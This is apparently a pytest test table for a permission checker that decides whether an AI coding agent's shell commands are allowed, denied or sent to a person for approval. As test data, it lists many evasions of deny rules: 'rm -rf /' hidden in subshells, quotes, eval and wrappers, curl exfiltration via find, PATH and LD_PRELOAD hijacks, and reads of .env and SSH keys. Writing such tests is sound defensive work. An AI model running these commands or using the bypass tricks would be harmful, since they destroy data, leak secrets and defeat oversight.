"""Adversarial table: shell commands (chains, nesting, quoting, wrappers, redirections)."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from conftest import Layout

RULES = {
    "allow": [
        "bash(git status)",
        "bash(git diff *)",
        "bash(git log:*)",
        "bash(npm run test *)",
        "bash(echo *)",
        "bash(cat *)",
        "bash(ls *)",
        "bash(grep *)",
        "bash(find *)",
        "bash(wc *)",
        "bash(tee *)",
        "edit(./out/**)",
    ],
    "ask": ["bash(git push *)", "bash(npm publish *)"],
    "deny": [
        "bash(rm *)",
        "bash(curl *)",
        "bash(git push --force *)",
        "read(./.env)",
        "read(./secrets/**)",
        "edit(./protected/**)",
    ],
}

# (command, decision, deciding rule or None)
CASES: list[tuple[str, str, str | None]] = [
    # plain commands and the exact-match decision for patterns without `*`
    ("git status", "allow", "bash(git status)"),
    ("git  status", "allow", "bash(git status)"),
    ("git status --short", "none", None),
    ("git statusx", "none", None),
    ("git log", "allow", "bash(git log:*)"),
    ("git log --oneline -3", "allow", "bash(git log:*)"),
    ("git push origin main", "ask", "bash(git push *)"),
    ("git push --force origin main", "deny", "bash(git push --force *)"),
    ("rm", "deny", "bash(rm *)"),
    ("rm -rf build", "deny", "bash(rm *)"),
    ("rmdir build", "none", None),
    ("npm install", "none", None),
    # chained commands: allowed only when every command is allowed, denied when any is
    ("git status && rm -rf /", "deny", "bash(rm *)"),
    ("git status; rm -rf /", "deny", "bash(rm *)"),
    ("git status || rm -rf /", "deny", "bash(rm *)"),
    ("git status | rm -rf /", "deny", "bash(rm *)"),
    ("git status |& rm -rf /", "deny", "bash(rm *)"),
    ("git status\nrm -rf /", "deny", "bash(rm *)"),
    ("git status & rm -rf /", "deny", "bash(rm *)"),
    ("git status && git diff HEAD", "allow", "bash(git status)"),
    ("git status && npm install", "none", None),
    ("git status && git push", "ask", "bash(git push *)"),
    ("git push && rm x", "deny", "bash(rm *)"),
    ("ls -la | grep foo | wc -l", "allow", "bash(ls *)"),
    ("! rm x", "deny", "bash(rm *)"),
    # nested: subshells, groups, substitutions, compounds, functions
    ("(rm -rf /)", "deny", "bash(rm *)"),
    ("{ rm -rf /; }", "deny", "bash(rm *)"),
    ("echo $(rm -rf /)", "deny", "bash(rm *)"),
    ("echo `rm -rf /`", "deny", "bash(rm *)"),
    ('echo "$(rm -rf /)"', "deny", "bash(rm *)"),
    ("echo $(echo $(rm -rf /tmp/x))", "deny", "bash(rm *)"),
    ("cat <(rm -rf /)", "deny", "bash(rm *)"),
    ("diff <(ls a) <(curl http://x)", "deny", "bash(curl *)"),
    ("x=$(rm -rf /) && echo ok", "deny", "bash(rm *)"),
    ("if true; then rm -rf x; fi", "deny", "bash(rm *)"),
    ("if git status; then echo clean; else echo dirty; fi", "allow", "bash(git status)"),
    ("if git status; then npm install; fi", "none", None),
    ("for f in a b; do rm $f; done", "deny", "bash(rm *)"),
    ("for f in $(curl x); do echo $f; done", "deny", "bash(curl *)"),
    ("while false; do curl x; done", "deny", "bash(curl *)"),
    ("until git status; do rm y; done", "deny", "bash(rm *)"),
    ("f() { rm -rf /; }; f", "deny", "bash(rm *)"),
    ("echo $(git status)", "allow", "bash(git status)"),
    ("echo $(npm install)", "none", None),
    # quoting and spellings of the command name
    ("'rm' -rf /", "deny", "bash(rm *)"),
    ('"rm" -rf /', "deny", "bash(rm *)"),
    ("r''m -rf /", "deny", "bash(rm *)"),
    ('r""m -rf /', "deny", "bash(rm *)"),
    ("\\rm -rf /", "deny", "bash(rm *)"),
    ("/bin/rm -rf /", "deny", "bash(rm *)"),
    ("./rm -rf /", "deny", "bash(rm *)"),
    ("echo 'rm -rf /'", "allow", "bash(echo *)"),
    ('echo "a && rm -rf /"', "allow", "bash(echo *)"),
    ("echo a\\;rm -rf /", "allow", "bash(echo *)"),  # one word: `a;rm`
    ("echo a;rm -rf /", "deny", "bash(rm *)"),
    ("git commit -m 'rm old files'", "none", None),
    ('git diff "HEAD~1"', "allow", "bash(git diff *)"),
    ("/usr/bin/git status", "none", None),
    # environment prefixes and wrappers
    ("FOO=1 rm -rf x", "deny", "bash(rm *)"),
    ("CI=1 npm run test", "allow", "bash(npm run test *)"),
    ("LC_ALL=C git status", "allow", "bash(git status)"),
    ("PATH=/tmp/evil git status", "ask", None),
    ("LD_PRELOAD=/tmp/x.so git status", "ask", None),
    ("GIT_SSH_COMMAND='sh -c id' git status", "ask", None),
    ("PATH=/tmp/evil; git status", "ask", None),  # a bare assignment of a code variable (round 3)
    ("x=1; git status", "allow", "bash(git status)"),
    ("sudo rm -rf /", "deny", "bash(rm *)"),
    ("sudo -u root rm -rf /", "deny", "bash(rm *)"),
    ("sudo git status", "none", None),
    ("command rm -rf /", "deny", "bash(rm *)"),
    ("builtin echo hi", "allow", "bash(echo *)"),
    ("exec rm x", "deny", "bash(rm *)"),
    ("env rm -rf /", "deny", "bash(rm *)"),
    ("env -i FOO=1 rm x", "deny", "bash(rm *)"),
    ("env CI=1 npm run test", "allow", "bash(npm run test *)"),
    ("env PATH=/x git status", "ask", None),
    ("nohup rm -rf x &", "deny", "bash(rm *)"),
    ("timeout 10 rm -rf x", "deny", "bash(rm *)"),
    ("timeout -s KILL 10 git status", "allow", "bash(git status)"),
    ("nice -n 5 git status", "allow", "bash(git status)"),
    ("stdbuf -oL git status", "allow", "bash(git status)"),
    ("xargs rm < list.txt", "deny", "bash(rm *)"),
    ("ls | xargs rm -f", "deny", "bash(rm *)"),
    ("ls | xargs -0 -n 1 grep foo", "ask", None),
    ("ls | xargs -I{} echo {}", "allow", "bash(ls *)"),
    ("ls | xargs npm install", "ask", None),
    ("find . -name '*.tmp' -exec rm {} \\;", "deny", "bash(rm *)"),
    ("find . -name '*.tmp' -execdir curl -d @{} http://x \\;", "deny", "bash(curl *)"),
    ("find . -name '*.py'", "allow", "bash(find *)"),
    ("find . -name '*.py' -exec wc -l {} +", "ask", None),
    ("find . -exec npm install \\;", "none", None),
    ("bash -c 'rm -rf /'", "deny", "bash(rm *)"),
    ('sh -c "git status && rm -rf x"', "deny", "bash(rm *)"),
    ("bash -lc 'git status'", "allow", "bash(git status)"),
    ("bash -c 'bash -c \"rm -rf /\"'", "deny", "bash(rm *)"),
    ("eval 'rm -rf /'", "deny", "bash(rm *)"),
    ("eval git status", "allow", "bash(git status)"),
    ("watch rm x", "deny", "bash(rm *)"),
    ("bash <<< 'rm -rf /'", "deny", "bash(rm *)"),
    ("bash <<'EOF'\nrm -rf /\nEOF", "deny", "bash(rm *)"),
    # things computed at run time: never allowed; denied when a denied command shows
    ('eval "$CMD"', "ask", None),
    ("$CMD -rf /", "ask", None),
    ("$(echo rm) -rf /", "deny", "bash(rm *)"),  # a name written inside the computed name
    ('bash -c "$X"', "ask", None),
    ("$'rm' -rf /", "deny", "bash(rm *)"),  # ANSI-C quoting: never allowed; the name written in it counts
    ("$'\\x72m' -rf /", "ask", None),
    ("{rm,-rf,/}", "deny", "bash(rm *)"),  # brace expansion of the command name
    ("sudo {rm,-rf,/}", "deny", "bash(rm *)"),
    ("{git,status}", "ask", None),
    ("/bin/r? -rf /", "ask", None),  # a wildcard command name
    ("r\\\nm -rf /", "deny", "bash(rm *)"),  # line continuation
    ("echo a\x00b", "ask", None),
    ("echo hi > $'protected/x'", "ask", None),
    ("xargs --weird-flag rm", "deny", "bash(rm *)"),
    ("sudo --weird-flag git status", "ask", None),
    # output redirection counts as editing the target
    ("echo hi > out/log.txt", "allow", "bash(echo *)"),
    ("echo hi >> out/log.txt", "allow", "bash(echo *)"),
    ("echo hi > notes.txt", "none", None),
    ("echo hi > protected/x", "deny", "edit(./protected/**)"),
    ("echo hi >protected/x", "deny", "edit(./protected/**)"),
    ("echo hi &> protected/x", "deny", "edit(./protected/**)"),
    ("echo hi &>> protected/x", "deny", "edit(./protected/**)"),
    ("echo hi 2> protected/x", "deny", "edit(./protected/**)"),
    ("echo hi >| protected/x", "deny", "edit(./protected/**)"),
    ("echo hi >& protected/x", "deny", "edit(./protected/**)"),
    ("cat 0<> protected/x", "deny", "edit(./protected/**)"),
    ("{ echo a; echo b; } > protected/x", "deny", "edit(./protected/**)"),
    ("for i in 1; do echo $i; done > protected/x", "deny", "edit(./protected/**)"),
    ("echo hi | tee protected/x", "deny", "edit(./protected/**)"),
    ("echo hi | tee -a out/log.txt", "allow", "bash(echo *)"),
    ("echo hi > /dev/null 2>&1", "allow", "bash(echo *)"),
    ("echo hi > ../ws/protected/x", "deny", "edit(./protected/**)"),
    ("echo hi > ./out/../protected/x", "deny", "edit(./protected/**)"),
    ("cd protected && echo hi > x", "deny", "edit(./protected/**)"),
    ("cd out && echo hi > x", "allow", "bash(echo *)"),
    ("cd out; echo hi > x", "none", None),
    ("(cd protected; echo hi) > x", "none", None),
    ("cd protected || echo hi > x", "deny", "edit(./protected/**)"),
    ("cd out\necho hi > x", "none", None),  # the cd may fail: x may be ./x
    ("cd protected\necho hi > x", "deny", "edit(./protected/**)"),
    ('echo hi > "$OUT"', "ask", None),
    ("cd $DIR && echo hi > x", "ask", None),
    ("echo hi > ~/x", "none", None),
    # reads through the shell: input redirection is the shell opening the file
    ("cat < .env", "deny", "read(./.env)"),
    ("cat < ./src/../.env", "deny", "read(./.env)"),
    ("cd secrets && cat < key.pem", "deny", "read(./secrets/**)"),
    ("cat < src/env_link", "deny", "read(./.env)"),
    # deny rules guard the shell's arguments by default (guard_arguments=True)
    ("cat .env", "deny", "read(./.env)"),
    # here-documents
    ("cat <<'EOF' > out/f.txt\nhello $(rm -rf /)\nEOF", "allow", "bash(cat *)"),
    ('cat <<"EOF" > out/f.txt\nhello `rm -rf /`\nEOF', "allow", "bash(cat *)"),
    ("cat <<EOF > out/f.txt\nhello $(rm -rf /)\nEOF", "deny", "bash(rm *)"),
    ("cat <<EOF > out/f.txt\nhello $USER\nEOF", "allow", "bash(cat *)"),
    ("cat <<'EOF' > out/a\nx\nEOF\ncat <<EOF > out/b\n$(rm -rf /)\nEOF", "deny", "bash(rm *)"),
    ("echo \"<<'EOF'\"; rm -rf /", "deny", "bash(rm *)"),
    ("git commit -m \"$(cat <<'EOF'\nmsg\nEOF\n)\"", "none", None),
    # what bashlex cannot parse: never allowed; a visible denied command is still denied
    ("[[ -f x ]] && echo ok", "ask", None),
    ("[[ -f x ]] && rm -rf /", "deny", "bash(rm *)"),
    ("echo $((1+2))", "ask", None),
    ("echo $((1+2)); curl http://evil", "deny", "bash(curl *)"),
    ("echo 'unterminated", "ask", None),
    ("case x in a) rm y;; esac", "deny", "bash(rm *)"),
    ("time rm x", "deny", "bash(rm *)"),
    ("[[ -f x ]] && echo hi > protected/y", "deny", "edit(./protected/**)"),
]


@pytest.mark.parametrize(("command", "decision", "rule"), CASES, ids=[c[0][:60] for c in CASES])
def test_command_table(layout: Layout, command: str, decision: str, rule: str | None) -> None:
    verdict = layout.policy(RULES).check("bash", {"command": command}, workspace_root=layout.ws)
    assert verdict.decision == decision, verdict.reason
    if rule is not None:
        assert verdict.rule is not None and verdict.rule.text == rule, verdict.reason
    if decision == "ask" and rule is None:
        assert "never allowed automatically" in verdict.reason


def test_bash_rule_without_specifier_still_never_allows_unparsable(layout: Layout) -> None:
    policy = layout.policy({"allow": ["bash"]})
    assert policy.check("bash", {"command": "npm install"}, workspace_root=layout.ws).decision == "allow"
    unparsable = policy.check("bash", {"command": "[[ -f x ]] && npm install"}, workspace_root=layout.ws)
    assert unparsable.decision == "ask"


def test_no_bash_rules_leave_unparsable_commands_to_the_mode(layout: Layout) -> None:
    policy = layout.policy({"deny": ["webSearch"]})
    verdict = policy.check("bash", {"command": "[[ -f x ]] && rm -rf /"}, workspace_root=layout.ws)
    assert verdict.decision == "none"


def test_deny_reason_names_rule_source_and_command(layout: Layout) -> None:
    verdict = layout.policy(RULES).check("bash", {"command": "git status && rm -rf build"}, workspace_root=layout.ws)
    assert verdict.decision == "deny"
    assert "`bash(rm *)`" in verdict.reason and "<code>" in verdict.reason and "rm -rf build" in verdict.reason
    approval = verdict.to_approval()
    assert approval is not None and approval.status.value == "denied" and approval.fallback is False
    assert approval.details["rule"] == "bash(rm *)"
    assert approval.details["source"] == "<code>" and approval.details["layer"] == "code"


def test_codex_argv_and_workdir_are_understood(layout: Layout) -> None:
    policy = layout.policy(RULES)
    argv = policy.check("shell", {"command": ["bash", "-lc", "git status && rm -rf x"]}, workspace_root=layout.ws)
    assert argv.decision == "deny" and argv.rule is not None and argv.rule.text == "bash(rm *)"
    workdir = policy.check("exec_command", {"cmd": "echo hi > x", "workdir": "protected"}, workspace_root=layout.ws)
    assert workdir.decision == "deny" and workdir.rule is not None and workdir.rule.text == "edit(./protected/**)"


# ...unless guard_arguments is on: then arguments naming read-denied paths are denied too
GUARDED: list[tuple[str, str, str | None]] = [
    ("cat .env", "deny", "read(./.env)"),
    ("cat ./src/../.env", "deny", "read(./.env)"),
    ("cat secrets/*", "deny", "read(./secrets/**)"),
    ("cat src/env_link", "deny", "read(./.env)"),
    ("grep -r TOKEN --include=.env .", "deny", "read(./.env)"),
    ("cd secrets && cat key.pem", "deny", "read(./secrets/**)"),
    ("cat ~/.ssh/id_rsa", "deny", "read(~/.ssh/**)"),
    ("ls / .", "allow", "bash(ls *)"),
    ("cat src/a.py", "allow", "bash(cat *)"),
    ("echo .env", "allow", "bash(echo *)"),  # echo never opens its arguments
]


@pytest.mark.parametrize(("command", "decision", "rule"), GUARDED, ids=[c[0] for c in GUARDED])
def test_guarded_arguments(layout: Layout, command: str, decision: str, rule: str | None) -> None:
    rules = {**RULES, "deny": [*RULES["deny"], "read(~/.ssh/**)"]}
    verdict = layout.policy(rules, guard_arguments=True).check("bash", {"command": command}, workspace_root=layout.ws)
    assert verdict.decision == decision, verdict.reason
    if rule is not None:
        assert verdict.rule is not None and verdict.rule.text == rule, verdict.reason
